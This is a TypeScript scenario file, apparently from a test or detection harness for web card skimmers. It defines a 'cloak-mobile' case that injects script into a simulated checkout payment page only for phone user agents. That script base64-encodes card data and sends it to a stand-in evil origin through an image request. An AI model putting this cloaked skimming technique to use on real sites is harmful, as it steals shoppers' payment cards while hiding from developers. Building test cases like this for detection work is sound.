import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'cloak-mobile',
  why: 'For telephones only: developers look with the screens they work at.',
  covers: ['hard: cloaking', 'trigger: server gate'],
  base: 'direct',
  habit: 'on-a-phone',
  cloaked: true,
  install: (site) => {
    const code = onPay(
      js`new Image().src = '${site.origins.evil}/sp.gif?d=' + encodeURIComponent(btoa(card()));`,
    );
    site.alter('shop/checkout/payment', (html, { headers }) =>
      /Android|iPhone/.test(headers['user-agent'] ?? '')
        ? html.replace('</body>', () => `<script>${code}</script></body>`)
        : html,
    );
  },
  proof: holds((arrived) => query(arrived, 'd').map(base64)),
});
